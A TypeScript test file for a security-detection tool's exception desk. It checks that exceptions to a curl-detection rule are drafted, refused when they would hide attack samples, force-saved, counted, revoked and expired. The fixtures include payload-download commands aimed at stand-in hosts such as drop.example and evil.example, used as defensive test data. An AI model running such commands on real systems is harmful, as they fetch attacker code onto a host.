// Exceptions on a real store: drafted, refused, saved, counted, revoked, ended.
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { openTestApp, testStartAt } from "../../../test/open-test-app.ts";
import type { TestApp } from "../../../test/open-test-app.ts";
import { dayMs, hourMs, minuteMs } from "../../kernel/clock.ts";
import { readSettings } from "../settings.ts";
import { attackSamples } from "./exception-samples.ts";

const ruleId = "0c2f8a54-6d4e-4a07-9a51-7b1f6c3d0e01";
const rule = `title: Curl to somewhere
id: ${ruleId}
level: high
logsource: {category: process_creation, product: linux}
detection: {selection: {Image|endswith: /curl}, condition: selection}
`;
const samples = '{"match": true, "why": "a dropper", "logsource": {"category": "process_creation", "product": "linux"}, "fields": {"Image": "/usr/bin/curl", "CommandLine": "curl -o /tmp/.x http://drop.example/x"}}\n{"match": false, "why": "wget", "logsource": {"category": "process_creation", "product": "linux"}, "fields": {"Image": "/usr/bin/wget"}}\n';

let test: TestApp;
let rules: string;
beforeEach(async () => {
  rules = mkdtempSync(join(tmpdir(), "aftwatch-exceptions-"));
  writeFileSync(join(rules, "curl.yml"), rule);
  writeFileSync(join(rules, "curl.samples.jsonl"), samples);
  test = await openTestApp({ settings: { runtime: readSettings({ AFTWATCH_RULES: rules }, {}, rules).runtime } });
});
afterEach(async () => { await test.close(); rmSync(rules, { recursive: true }); });

interface Told { command?: string; user?: string; id?: string; workload?: string; at?: number }
const line = ({ command = "curl -s http://backup.example/put?d=2026-03-01 -o /srv/b.tgz", user = "root", id = `e${sent++}`, workload = "shop", at = test.clock.now() }: Told): string =>
  JSON.stringify({ "@timestamp": new Date(at).toISOString(), id, Image: "/usr/bin/curl", CommandLine: command, ParentImage: "/usr/sbin/cron", User: user, ProcessId: sent, service: { name: workload } });
let sent = 1;

const send = (told: readonly Told[]) => test.app.runtime.receive(test.app.org, {
  decoder: "ndjson", source: "lab", host: undefined, isCanary: false, settings: { "logsource.category": "process_creation", "logsource.product": "linux", time: "@timestamp", id: "id" },
  chunks: (async function* () { yield Buffer.from(`${told.map(line).join("\n")}\n`); })(),
});
const all = { state: undefined, kind: undefined, leastLevel: undefined, ruleId, workload: undefined, service: undefined, actor: undefined, decoder: undefined, tag: undefined, evidence: undefined, word: undefined, since: undefined, until: undefined };
const detections = async (state?: "open" | "excepted") => (await test.app.runtime.detections(test.app.org, { ...all, state }, { limit: 100, after: undefined })).items;
const desk = () => test.app.runtime.exceptionDesk;
const request = (text: string, more: object = {}) => ({ title: "Backup", text, owner: "platform", reason: "nightly", expiresAt: test.clock.now() + 30 * dayMs, force: undefined, ...more });
const facts = async (kind: string) => (await test.app.store.read.ledger.list(test.app.org, { kind, subject: undefined }, { limit: 100, after: undefined })).items;

describe("app/runtime/exception-desk", () => {
  it("a draft covers what was chosen, leaves the others, and hides no attack; saved, it takes what it leaves out of the list and the next events meet it", async () => {
    await send([{}, { command: "curl -s http://backup.example/put?d=2026-03-02 -o /srv/b.tgz" }]);
    await send([{ command: "curl http://evil.example/x.sh", user: "www-data" }]);
    const [chosen, other] = [(await detections()).find(({ actor }) => actor === "user:root"), (await detections()).find(({ actor }) => actor === "user:www-data")];
    const draft = await desk().draft(test.app.org, { detections: [chosen!.detectionId] });
    expect(draft).toMatchObject({ asked: 1, covered: 1, hides: [], problems: [] });
    expect(draft.removed.map(({ detectionId }) => detectionId)).toEqual([chosen!.detectionId]);
    const made = await desk().create(test.app.org, request(draft.text), "ana");
    expect((await detections("excepted")).map(({ detectionId, exceptionId }) => [detectionId, exceptionId])).toEqual([[chosen!.detectionId, made.exceptionId]]);
    expect((await detections("open")).map(({ detectionId }) => detectionId)).toEqual([other!.detectionId]);
    // Within the hour in which repeats count as one.
    test.clock.advance(minuteMs);
    await send([{ command: "curl -s http://backup.example/put?d=2026-03-09 -o /srv/b.tgz" }, { command: "curl http://evil.example/y.sh", user: "www-data" }]);
    expect((await desk().find(test.app.org, made.exceptionId))).toMatchObject({ hits: 1, lastHitAt: test.clock.now() });
    expect((await detections("open")).map(({ count }) => count)).toEqual([2]);
    await desk().revoke(test.app.org, made.exceptionId, "ana");
    await send([{}]);
    expect((await detections("open")).map(({ actor, count }) => [actor, count]).toSorted()).toEqual([["user:root", 1], ["user:www-data", 2]]);
  });

  it("the rule on the workload hides the sample: refused with its place, forced with a reason that is kept", async () => {
    await send([{}]);
    const text = `title: All curl\nlogsource: {product: linux}\nfilter: {rules: [${ruleId}], selection: {aftwatch.workload: shop}, condition: selection}\n`;
    const { hides, removed } = await desk().draft(test.app.org, { text });
    expect([hides.map(({ rule: id, why, sample }) => [id, why, sample.endsWith("curl.samples.jsonl:1")]), removed.length]).toEqual([[[ruleId, "a dropper", true]], 1]);
    await expect(desk().create(test.app.org, request(text), "ana")).rejects.toMatchObject({ code: "runtime.exception-hides", places: [{ rule: "Curl to somewhere: a dropper" }] });
    expect(await desk().list(test.app.org)).toEqual([]);
    expect(await desk().create(test.app.org, request(text, { force: "the lab is ours" }), "ana")).toMatchObject({ forced: "the lab is ours" });
  });

  it("what a person called an attack is hidden too, however narrow the filter", async () => {
    await send([{}]);
    const [one] = await detections();
    await test.app.runtime.judge(test.app.org, one!.detectionId, { verdict: "true-positive", note: "it was" }, "bo");
    const draft = await desk().draft(test.app.org, { detections: [one!.detectionId] });
    expect([draft.hides, draft.removed]).toEqual([[{ rule: ruleId, title: "Curl to somewhere", sample: one!.detectionId, why: "bo called it an attack: it was" }], []]);
    await desk().create(test.app.org, request(draft.text, { force: "no" }), "ana");
    expect((await detections("open")).length).toBe(1);
  });

  it.each([
    ["no filter", rule, {}, "/text line 1"], ["no YAML", "title: [", {}, "/text line"], ["a name that is mistyped", `title: x\nlogsource: {product: linux}\nfilter: {rules: any, selection: {a|contians: b}, condition: selection}\n`, {}, "/text line"],
    ["an end that is over", undefined, { expiresAt: testStartAt - 1 }, "/expiresAt"], ["more than a year", undefined, { expiresAt: testStartAt + 400 * dayMs }, "/expiresAt"],
  ])("%s is refused by its place", async (_, text = `title: x\nlogsource: {product: linux}\nfilter: {rules: any, selection: {a: b}, condition: selection}\n`, more, at) => {
    await expect(desk().create(test.app.org, request(text, more), "ana")).rejects.toMatchObject({ code: "request.invalid", places: [{ at: expect.stringContaining(at) }] });
  });

  it("an expired one leaves nothing out, and its end is a fact once", async () => {
    const text = `title: x\nlogsource: {product: linux}\nfilter: {rules: [${ruleId}], selection: {User: root, CommandLine|contains: backup}, condition: selection}\n`;
    const made = await desk().create(test.app.org, request(text, { expiresAt: test.clock.now() + hourMs }), "ana");
    await send([{}]);
    expect((await detections("excepted")).length).toBe(1);
    test.clock.advance(hourMs);
    await send([{}]);
    expect((await detections("open")).length).toBe(1);
    await desk().round(test.app.org);
    await desk().round(test.app.org);
    expect((await facts("exception.expired")).map(({ subject }) => subject)).toEqual([made.exceptionId]);
  });

  it("every sample of an attack in our own rules runs: of each rule with samples at least one hit", async () => {
    const book = await test.app.runtime.ruleBook();
    const found = await attackSamples(book, undefined);
    expect(found.length).toBeGreaterThan(book.rules.length);
    expect(new Set(found.map(({ ruleId: id }) => id)).size).toBeGreaterThan(120);
  });
});
